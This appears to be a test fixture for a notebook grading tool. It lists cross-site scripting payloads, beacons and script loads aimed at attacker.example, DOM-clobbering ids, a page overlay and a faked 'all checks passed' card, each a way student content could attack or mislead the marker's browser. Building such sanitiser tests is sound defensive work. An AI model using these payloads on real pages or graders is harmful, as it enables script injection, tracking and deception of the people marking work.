"""What a student may put into a notebook for the browser of whoever marks it.

Each text tries to run a script (which calls ``taken(NAME)``), to load something from elsewhere, or to cover the page.
"""

FOREIGN = "http://attacker.example"

MARKDOWN = {
    "script": "<script>taken('script')</script>",
    "script in capitals, unclosed": "<SCRIPT src=//attacker.example/a.js>taken('capitals')",
    "handler of a picture": "<img src=x onerror=\"taken('onerror')\">",
    "handler with a slash": "<img/src=x/onerror=taken('slash')>",
    "svg": "<svg onload=\"taken('svg')\"><script>taken('svg script')</script></svg>",
    "svg that animates a link": "<svg><a><animate attributeName=href values=\"javascript:taken('animate')\"/><text>x</text></a></svg>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=taken('mglyph')></style></mglyph></table></mtext></math>",
    "nested parsers": "<noscript><p title=\"</noscript><img src=x onerror=taken('noscript')>\"></noscript>",
    "comment": "<!--><img src=x onerror=taken('comment')>-->",
    "details that opens": "<details open ontoggle=\"taken('toggle')\"><summary>s</summary>d</details>",
    "focus": "<input autofocus onfocus=\"taken('focus')\"><select autofocus onfocus=\"taken('select')\"></select>",
    "body": "<body onload=\"taken('body')\" onpageshow=\"taken('pageshow')\">",
    "frame": "<iframe srcdoc=\"<script>parent.taken('frame')</script>\"></iframe><iframe src=\"javascript:parent.taken('frame 2')\"></iframe>",
    "object": "<object data=\"data:text/html,<script>parent.taken('object')</script>\"></object><embed src=//attacker.example/e>",
    "link in Markdown": "[press](javascript:taken('link'))",
    "link with a tab": "<a href=\"java\tscript:taken('tab')\">press</a>",
    "link through files/": "<a href=\"files/javascript:taken('files')\">press</a> [press](files/javascript:taken('files-2'))",
    "link as data": "<a href=\"data:text/html,<script>opener.taken('data')</script>\">press</a>",
    "form": f"<form action=\"{FOREIGN}/form\"><button formaction=\"javascript:taken('form')\">press</button></form>",
    "refresh": f"<meta http-equiv=refresh content=\"0;url={FOREIGN}/refresh\"><base href=\"{FOREIGN}/\">",
    "beacon in Markdown": f"![a]({FOREIGN}/beacon.png)",
    "beacons in HTML": f"<img src={FOREIGN}/b1.png srcset={FOREIGN}/b2.png><video poster={FOREIGN}/b3.png src={FOREIGN}/b4></video>"
                       f"<link rel=stylesheet href={FOREIGN}/b5.css><table background={FOREIGN}/b6.png><tr><td>x</td></tr></table>",
    "style": f"<style>@import url({FOREIGN}/s1.css); body {{ display: none; background: url({FOREIGN}/s2.png) }}</style>",
    "overlay": f"<div id=overlay class=navbar-fixed-top style=\"position:fixed;inset:0;z-index:99999;background:url({FOREIGN}/o.png)\">covered</div>",
    "data attributes": "<div data-toggle=tooltip data-html=true title=\"<img src=x onerror=taken('tooltip')>\">x</div>",
    "ids of the page": "<form id=submission_id><a id=base_url href=x></a></form><img name=MathJax id=jQuery>",
    "formula with a link": r"$\href{javascript:taken('math')}{x}$ $\style{position:fixed;top:0}{x}$ $\class{score}{x}$ $\cssId{q}{x}$",
    "formula as HTML": "$x <img src=x onerror=taken('formula')> y$ $$ </script><script>taken('formula 2')</script> $$",
    "code that closes": "```html\n</code></pre><script>taken('code')</script>\n```\n\n`</code><script>taken('span')</script>`",
    "broken table": "| a |\n|---|\n| <img src=x onerror=\"taken('table')\"> |",
    "reference": "[press][r]\n\n[r]: javascript:taken('reference) \"<img src=x onerror=taken('title')>\"",
    "attachment": "![a](attachment:a.svg) ![b](attachment:b.png)",
    "faked card": '<div class="course-check" data-state="right" style="border-left:4px solid #1f8a3f"><b>relu_backward: all checks passed</b></div>',
}

ATTACHMENTS = {
    "a.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9InRha2VuKCdhdHRhY2htZW50JykiLz4="},
    "b.png": {"image/png": "\"><script>taken('attachment text')</script>"},
    "\"><script>taken('attachment name')</script>": {"text/html": "<script>taken('attachment html')</script>"},
}

CODE = {
    "displayed HTML": "from IPython.display import HTML, SVG, Javascript, Markdown, display\ndisplay(HTML(\"<script>taken('display')</script>\"), "
                      "Javascript(\"taken('javascript')\"), Markdown('<img src=x onerror=taken(1)>'))",
    "own form of an object": "class A:\n    def _repr_html_(self): return \"<img src=x onerror=taken('repr')>\"\n    _repr_svg_ = _repr_markdown_ = _repr_html_\nA()",
    "printed HTML": "print(\"<script>taken('print')</script> \\x1b]8;;javascript:taken(1)\\x1b\\\\press\\x1b]8;;\\x1b\\\\ \\x1b[1;31m<b>red\")",
    "name of an exception": "type(\"<img src=x onerror=taken('exception')>\", (Exception,), {})\n"
                            "raise type(\"<img src=x onerror=taken('exception')>\", (Exception,), {})(\"<script>taken('message')</script>\")",
    "source": "# </pre><script>taken('source')</script>",
}

HONEST = r"""## What I found

The **loss** is $\frac{1}{N} \sum_i (y_i - t_i)^2$, and `x < 1` in code.

```python
def honest(x):
    return x < 1
```

| layer | norm |
|-------|-----:|
| first | 0.25 |

<details><summary>More of it</summary>the part that unfolds</details>

[the paper](https://arxiv.org/abs/1502.03167) ![a picture](attachment:plot.png)
"""

PICTURE = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
